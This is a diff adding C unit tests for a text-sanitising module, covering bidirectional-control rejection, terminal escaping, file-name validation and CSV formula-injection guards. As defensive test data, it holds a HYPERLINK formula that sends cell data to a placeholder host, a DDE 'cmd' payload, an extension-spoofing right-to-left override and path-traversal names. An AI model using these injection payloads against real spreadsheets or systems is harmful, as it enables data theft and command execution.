@@ -4,6 +4,8 @@
 #include <utf8proc.h>
 
 #include "i18n.h"
+#include "report.h"
+#include "template.h"
 #include "text.h"
 
 /* Lengths are given so that bytes after an embedded NUL, or a truncated tail, are seen. */
@@ -197,6 +199,14 @@ test_clean(void **state)
 		{"NFC in multiline", "Tra\xcc\x82\xcc\x80n\r\nVa\xcc\x86n", TEXT_MULTILINE,
 		 "Tr\xe1\xba\xa7n\nV\xc4\x83n"},
 		{"non-breaking space kept", "a\xc2\xa0" "b", TEXT_LINE, "a\xc2\xa0" "b"},
+		{"right-to-left override", "a\xe2\x80\xae" "cba", TEXT_LINE, NULL},
+		{"left-to-right embedding", "\xe2\x80\xaa" "x", TEXT_MULTILINE, NULL},
+		{"pop directional formatting", "x\xe2\x80\xac", TEXT_LINE, NULL},
+		{"first strong isolate", "x\xe2\x81\xa8" "y", TEXT_MULTILINE, NULL},
+		{"pop directional isolate", "x\xe2\x81\xa9", TEXT_LINE, NULL},
+		{"decomposed text with an override", "e\xcc\x81\xe2\x80\xae", TEXT_LINE, NULL},
+		{"right-to-left mark kept", "a\xe2\x80\x8f" "b", TEXT_LINE, "a\xe2\x80\x8f" "b"},
+		{"en dash kept", "a\xe2\x80\x93" "b", TEXT_LINE, "a\xe2\x80\x93" "b"},
 	};
 	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
 		const char *why = NULL;
@@ -233,7 +243,14 @@ test_clean_reasons(void **state)
 	assert_non_null(strstr(why, "line break"));
 	assert_null(text_clean("a\x02", TEXT_MULTILINE, &why));
 	assert_non_null(strstr(why, "control character"));
+	/* A bidi control shows as nothing: the reason names it by its code point. */
+	assert_null(text_clean("T\xe1\xbb\x95ng \xe2\x80\xae" "321", TEXT_LINE, &why));
+	assert_non_null(strstr(why, "bidirectional"));
+	assert_non_null(strstr(why, "U+202E"));
 	ui_lang = LANG_VI;
+	assert_null(text_clean("x\xe2\x81\xa6", TEXT_MULTILINE, &why));
+	assert_non_null(strstr(why, "hướng chữ"));
+	assert_non_null(strstr(why, "U+2066"));
 }
 
 /* Cleaning what was already cleaned changes nothing: stored text reads back the same. */
@@ -399,6 +416,215 @@ test_clean_fast_path_agrees(void **state)
 	}
 }
 
+/* What the command lines print from outside: every control, DEL, C1 control, bidi mark and
+ * byte of invalid UTF-8 escaped; everything else, Vietnamese included, as it is. */
+static void
+test_terminal(void **state)
+{
+	(void)state;
+	static const char *const cases[][2] = {
+		{"", ""},
+		{"Bệnh viện Bạch Mai", "Bệnh viện Bạch Mai"},
+		{"a\\b", "a\\b"},
+		{"x\x1b[31mred", "x\\x1b[31mred"},
+		{"tab\tnl\ncr\r", "tab\\tnl\\ncr\\r"},
+		{"del\x7f", "del\\x7f"},
+		{"\x01\x1f", "\\x01\\x1f"},
+		{"c1 \xc2\x9b" "31m", "c1 \\u009b31m"},
+		{"nel\xc2\x85", "nel\\u0085"},
+		{"nbsp\xc2\xa0", "nbsp\xc2\xa0"},
+		{"evil\xe2\x80\xae" "fdp.xhht", "evil\\u202efdp.xhht"},
+		{"\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad", "\\u202a\\u202b\\u202c\\u202d"},
+		{"\xe2\x81\xa6\xe2\x81\xa7\xe2\x81\xa8\xe2\x81\xa9", "\\u2066\\u2067\\u2068\\u2069"},
+		{"\xe2\x80\x8e\xe2\x80\x8f\xd8\x9c", "\\u200e\\u200f\\u061c"},
+		{"ls\xe2\x80\xa8ps\xe2\x80\xa9", "ls\\u2028ps\\u2029"},
+		{"bad\xff\xc3", "bad\\xff\\xc3"},
+		{"overlong\xc0\xaf", "overlong\\xc0\\xaf"},
+		{"surrogate\xed\xa0\x80", "surrogate\\xed\\xa0\\x80"},
+		{"emoji\xf0\x9f\x98\x80", "emoji\xf0\x9f\x98\x80"},
+	};
+	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+		char *got = text_terminal(cases[i][0]);
+		if (strcmp(got, cases[i][1]) != 0)
+			fail_msg("case %zu: got \"%s\", wanted \"%s\"", i, got, cases[i][1]);
+		free(got);
+	}
+	/* Over all of Unicode: the escaped form holds no hostile code point and is valid UTF-8,
+	 * and only the hostile ones change. */
+	for (uint32_t cp = 1; cp <= 0x10ffff; cp++) {
+		if (cp >= 0xd800 && cp <= 0xdfff)
+			continue;
+		utf8proc_uint8_t in[5] = {0};
+		utf8proc_encode_char((utf8proc_int32_t)cp, in);
+		char *got = text_terminal((const char *)in);
+		bool same = strcmp(got, (const char *)in) == 0;
+		if (same == text_hostile_cp(cp))
+			fail_msg("U+%04X: \"%s\"", cp, got);
+		if (!same)
+			for (const char *p = got; *p; p++)
+				if (*p < 0x20 || *p > 0x7e)
+					fail_msg("U+%04X escaped to a non-ASCII byte", cp);
+		free(got);
+	}
+	/* Random bytes: what comes out is valid UTF-8 holding no hostile code point. */
+	uint32_t seed = 4242;
+	for (int i = 0; i < 20000; i++) {
+		unsigned char in[24];
+		size_t n = 1 + i % 23;
+		for (size_t k = 0; k < n; k++) {
+			seed = seed * 1103515245u + 12345u;
+			in[k] = (unsigned char)(seed >> 16);
+			if (in[k] == 0)
+				in[k] = 0xe2; /* the lead byte of the bidi marks, more often */
+		}
+		in[n] = 0;
+		char *got = text_terminal((const char *)in);
+		assert_true(utf8_valid(got, strlen(got)));
+		for (const char *p = got; *p;) {
+			utf8proc_int32_t cp;
+			utf8proc_ssize_t k = utf8proc_iterate((const utf8proc_uint8_t *)p, -1, &cp);
+			assert_true(k > 0);
+			if (text_hostile_cp((uint32_t)cp))
+				fail_msg("U+%04X left in the escaped form of random bytes", (unsigned)cp);
+			p += k;
+		}
+		free(got);
+	}
+}
+
+/* The unit code alphabet, the file-name part made from outside text, and attachment names. */
+static void
+test_names(void **state)
+{
+	(void)state;
+	static const char *const good_codes[] = {"BVDKM", "U0001", "bv-bach_mai.2", "9",
+						 "A2345678901234567890123456789012"};
+	static const char *const bad_codes[] = {"",	 "-BV",	 ".BV", "_BV", ".",   "..",
+						"...",	 "B V",	 "B/V", "B\\V", "BV\x1b", "B\xc3\x80",
+						"A23456789012345678901234567890123"};
+	for (size_t i = 0; i < ARRAY_LEN(good_codes); i++)
+		if (!text_unit_code_ok(good_codes[i]))
+			fail_msg("code \"%s\" refused", good_codes[i]);
+	for (size_t i = 0; i < ARRAY_LEN(bad_codes); i++)
+		if (text_unit_code_ok(bad_codes[i]))
+			fail_msg("code \"%s\" accepted", bad_codes[i]);
+
+	static const char *const parts[][2] = {
+		{"BVDKM", "BVDKM"}, {"bv-1_x", "bv-1_x"}, {"a.b", "a_b"}, {"-x", "_x"},
+		{"../etc", "___etc"}, {"", "_"}, {"x\x1b\xe2\x80\xae", "x____"},
+	};
+	for (size_t i = 0; i < ARRAY_LEN(parts); i++) {
+		char out[16];
+		text_filename_part(parts[i][0], out, sizeof out);
+		assert_string_equal(out, parts[i][1]);
+	}
+	char small[4];
+	text_filename_part("ABCDEFG", small, sizeof small);
+	assert_string_equal(small, "ABC");
+
+	static const char *const good_names[] = {"scan.pdf", "Quyết định 2024.pdf", ".scan.pdf",
+						 "a - b.png", "x.", "a..b.jpg"};
+	static const char *const bad_names[] = {
+		"", "-rf.pdf", " a.pdf", ".", "..", "....", "a/b.pdf", "a\\b.pdf", "a\x1b.pdf",
+		"a\tb.pdf", "a\x7f.pdf", "a\xc2\x85.pdf", "evil\xe2\x80\xae" "fdp.pdf",
+		"a\xe2\x81\xa9.pdf", "a\xe2\x80\x8e.pdf", "a\xd8\x9c.pdf", "a\xe2\x80\xa8.pdf",
+		"a\xff.pdf",
+	};
+	for (size_t i = 0; i < ARRAY_LEN(good_names); i++)
+		if (!text_attachment_name_ok(good_names[i], NULL))
+			fail_msg("name \"%s\" refused", good_names[i]);
+	for (size_t i = 0; i < ARRAY_LEN(bad_names); i++) {
+		const char *why = NULL;
+		if (text_attachment_name_ok(bad_names[i], &why) || why == NULL || why[0] == '\0')
+			fail_msg("name %zu accepted, or refused without a reason", i);
+	}
+	char longname[202];
+	memset(longname, 'a', 201);
+	longname[201] = '\0';
+	assert_false(text_attachment_name_ok(longname, NULL));
+	longname[200] = '\0';
+	assert_true(text_attachment_name_ok(longname, NULL));
+}
+
+/* CSV text cells that a spreadsheet would run as a formula are written as text; others as
+ * RFC 4180 wants. */
+static void
+test_csv_cells(void **state)
+{
+	(void)state;
+	static const char *const cases[][2] = {
+		{"", ""},
+		{"Bạch Mai", "Bạch Mai"},
+		{"a,b", "\"a,b\""},
+		{"say \"hi\"", "\"say \"\"hi\"\"\""},
+		{"=HYPERLINK(\"http://x.example/?\"&A1,\"Xem\")",
+		 "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Xem\"\")\""},
+		{"=1+1", "\"'=1+1\""},
+		{"+84 912", "\"'+84 912\""},
+		{"-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""},
+		{"@SUM(A1)", "\"'@SUM(A1)\""},
+		{"\t=1", "\"'\t=1\""},
+		{"\r=1", "\"'\r=1\""},
+		{"a=b", "a=b"},
+		{" =1", " =1"},
+	};
+	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+		struct buf b;
+		buf_init(&b);
+		buf_csv(&b, cases[i][0]);
+		if (strcmp(b.data, cases[i][1]) != 0)
+			fail_msg("\"%s\": got %s, wanted %s", cases[i][0], b.data, cases[i][1]);
+		buf_free(&b);
+	}
+}
+
+/* A report's CSV: a text value that is a formula comes out as text, a number (negative too,
+ * as a template with a negative minimum allows) as a number. */
+static void
+test_csv_report(void **state)
+{
+	(void)state;
+	sqlite3 *db = test_db();
+	struct report *r = NULL;
+	struct err e = {{0}};
+	struct buf b;
+	char *read = test_file("tests/data/bao-cao-mau.json", NULL);
+	char *sample = xstrdup(read); /* GCC's dangling-pointer check is lost in test_file */
+	free(read);
+	const char *from = "\"Trần Quốc Khánh\"";
+	const char *at = strstr(sample, from);
+	assert_non_null(at);
+	size_t off = (size_t)(at - sample);
+	char *json = xasprintf("%.*s\"=HYPERLINK(\\\"http://x.example\\\",\\\"Xem\\\")\"%s",
+			       (int)off, sample, sample + off + strlen(from));
+	if (report_from_json(db, json, strlen(json), 2024, &r, &e) != ST_OK)
+		fail_msg("report_from_json: %s", e.msg);
+	size_t i;
+	for (i = 0; i < r->t->nfields; i++)
+		if (strcmp(r->t->fields[i].id, "chung.tong_so_nguoi") == 0)
+			break;
+	assert_true(i < r->t->nfields);
+	assert_int_equal(r->values[i].k, V_INT);
+	r->values[i].i = -5;
+	buf_init(&b);
+	report_to_csv(r, &b);
+	if (strstr(b.data, ",\"'=HYPERLINK(\"\"http://x.example\"\",\"\"Xem\"\")\"\r\n") == NULL)
+		fail_msg("formula not guarded:\n%s", b.data);
+	if (strstr(b.data, ",=HYPERLINK") != NULL || strstr(b.data, ",\"=HYPERLINK") != NULL)
+		fail_msg("formula written as a formula");
+	const char *row = strstr(b.data, ",chung.tong_so_nguoi,");
+	assert_non_null(row);
+	const char *eol = strstr(row, "\r\n");
+	assert_non_null(eol);
+	if (eol - row < 3 || strncmp(eol - 3, ",-5", 3) != 0)
+		fail_msg("negative number not written as a number: %.*s", (int)(eol - row), row);
+	buf_free(&b);
+	report_free(r);
+	free(json);
+	free(sample);
+	sqlite3_close(db);
+}
+
 int
 main(void)
 {
@@ -417,6 +643,10 @@ main(void)
 		cmocka_unit_test(test_utf8_steps),
 		cmocka_unit_test(test_nfc_stable_set),
 		cmocka_unit_test(test_clean_fast_path_agrees),
+		cmocka_unit_test(test_terminal),
+		cmocka_unit_test(test_names),
+		cmocka_unit_test(test_csv_cells),
+		cmocka_unit_test(test_csv_report),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
